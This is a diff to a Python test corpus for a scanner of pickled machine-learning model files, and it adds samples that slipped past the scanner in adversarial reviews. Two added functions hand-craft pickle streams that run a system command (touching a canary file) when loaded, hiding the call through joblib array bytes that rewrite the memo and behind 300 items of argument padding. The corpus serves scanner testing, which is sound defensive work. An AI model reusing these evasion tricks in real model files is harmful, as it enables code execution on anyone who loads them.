@@ -1,4 +1,4 @@
-"""Corpus: what the fifth adversarial review of Scanner II got past it (``review6-*``).
+"""Corpus: what the fifth and sixth adversarial reviews of Scanner II got past it.
 
 Each hid in where joblib reads array bytes and the machine did not, or the other way round: a
 wrapper inside an object array's pickle (read by a plain unpickler, which reads no array), a
@@ -6,12 +6,19 @@ wrapper made by torch's ``_rebuild_from_type_v2`` (which calls the class) or giv
 alignment by it (it sets its state's items on what it returns), and array bytes that rewrite
 the memo so that ``pickle.load`` imports, outside every array, what joblib does not.
 
-Each file starts with a one-byte numeric array holding ``\\xff``: the readings that take array
+The sixth review (``review7-*``) hid a dangerous import behind the rule that drops an object
+array's shifted module (joblib's name was allowed by family, whatever it is), and a wrapper
+class behind padding that the walk of a call's arguments gave up on.
+
+Most files start with a one-byte numeric array holding ``\\xff``: the readings that take array
 bytes for opcodes stop there, so only joblib's own reading reaches the payload.
 """
 
 from __future__ import annotations
 
+import io
+import pickle
+import struct
 from pathlib import Path
 
 from tests.corpus import Sample, file_sample
@@ -109,8 +116,6 @@ def _array_bytes_rewrite_the_memo(canary: Path) -> bytes:
 
 
 def _list_of_estimators_with_object_arrays(canary: Path) -> bytes:
-    import io
-
     import joblib
     import numpy as np
 
@@ -122,6 +127,70 @@ def _list_of_estimators_with_object_arrays(canary: Path) -> bytes:
     ]
     buffer = io.BytesIO()
     joblib.dump(estimators, buffer)
+    return buffer.getvalue()
+
+
+def _opcodes_of(value: object) -> bytes:
+    """The opcodes that push ``value``, with no PROTO, memo or STOP (a pickler in fast mode)."""
+    buffer = io.BytesIO()
+    pickler = pickle.Pickler(buffer, protocol=3)
+    pickler.fast = True  # no memo: the stream's own slots stay as they are
+    pickler.dump(value)
+    return buffer.getvalue()[2:-1]
+
+
+def _memo_shift_of_an_allowed_family_name(canary: Path) -> bytes:
+    # joblib imports sklearn.base.CodeType and sklearn.base.FunctionType (allowed by the
+    # scikit-learn family rule, whatever the name) from memo slots; array bytes read by
+    # pickle.load put 'types' in the module's slot, so it builds a function from a code object,
+    # and other array bytes put that function where joblib has builtins.set, which is called.
+    code = compile(f"__import__('os').system('touch {canary}')", "x", "exec")
+    fields = (
+        "argcount", "posonlyargcount", "kwonlyargcount", "nlocals", "stacksize", "flags",
+        "code", "consts", "names", "varnames", "filename", "name", "qualname", "firstlineno",
+        "linetable", "exceptiontable", "freevars", "cellvars",
+    )  # fmt: skip
+    args = tuple(getattr(code, f"co_{field}") for field in fields)
+    return (
+        b"\x80\x02(" + _text("sklearn.base") + b"p5\n0" + _text("CodeType") + b"p6\n0"
+        + _text("FunctionType") + b"p7\n0" + b"cbuiltins\nset\np9\n0"
+        + _array(_text("types") + b"p5\n0")
+        + b"g5\ng6\n\x93" + _opcodes_of(args) + b"Rp10\n0"
+        + b"g5\ng7\n\x93(g10\n}tRp11\n0"
+        + _array(b"g11\np9\n0")
+        + b"g9\n)R0l."
+    )  # fmt: skip
+
+
+def _array(region: bytes) -> bytes:
+    """A 'u1' joblib array whose bytes are ``region``, popped after."""
+    return _wrapper(len(region)) + region + b"0"
+
+
+def _wrapper_hidden_behind_padded_arguments(canary: Path) -> bytes:
+    # _rebuild_from_type_v2(build_intlist, NumpyArrayWrapper, (W,), {300 keys}) returns W: a
+    # walk of the arguments that gives up early never sees the class, and the BUILD after it
+    # reads an array for joblib only.
+    payload = b"20cposix\nsystem\n(" + _text(f"touch {canary}") + b"tR"
+    padding = b"}(" + b"".join(_text(f"junk{i}") + b"I0\n" for i in range(300)) + b"u"
+    wrapper = b"cjoblib.numpy_pickle\nNumpyArrayWrapper\n"
+    return (
+        b"\x80\x02(" + wrapper + b")\x81p20\n0"
+        + b"ctorch._tensor\n_rebuild_from_type_v2\n(ctorch.jit._pickle\nbuild_intlist\n"
+        + wrapper + b"(g20\nt" + padding + b"tR" + _state(5, _u1()) + b"b"
+        + b"B" + struct.pack("<I", len(payload)) + payload + b"00l."
+    )  # fmt: skip
+
+
+def _string_dtype_array(canary: Path) -> bytes:
+    import joblib
+    import numpy as np
+
+    # numpy 2's StringDType reduces to a factory of its own and holds objects: joblib pickles
+    # the array's items.
+    strings = np.array(["cat", "dog", ""], dtype=np.dtypes.StringDType())
+    buffer = io.BytesIO()
+    joblib.dump({"labels": strings, "w": np.ones(2)}, buffer)
     return buffer.getvalue()
 
 
@@ -160,9 +229,32 @@ SAMPLES: list[Sample] = [
         requires=("torch",),
     ),
     file_sample(
+        "review7-memo-shift-of-an-allowed-family-name",
+        _memo_shift_of_an_allowed_family_name,
+        "array bytes turn joblib's sklearn.base.FunctionType into pickle.load's types one",
+        _PICKLE_LOAD,
+    ),
+    file_sample(
+        "review7-wrapper-hidden-behind-padded-arguments",
+        _wrapper_hidden_behind_padded_arguments,
+        "a wrapper class handed to a call after 300 items of padding",
+        _JOBLIB_LOAD,
+        filename="model.joblib",
+        rules=("MLS-PKL-012",),
+        requires=("joblib", "torch"),
+    ),
+    file_sample(
         "review6-benign-list-of-estimators-with-object-arrays",
         _list_of_estimators_with_object_arrays,
         "a list of dicts holding object arrays (class labels): pickle.load shifts its memo",
+        None,
+        filename="model.joblib",
+        malicious=False,
+    ),
+    file_sample(
+        "review6-benign-string-dtype-array",
+        _string_dtype_array,
+        "a numpy 2 StringDType array saved by joblib (pickled as objects)",
         None,
         filename="model.joblib",
         malicious=False,
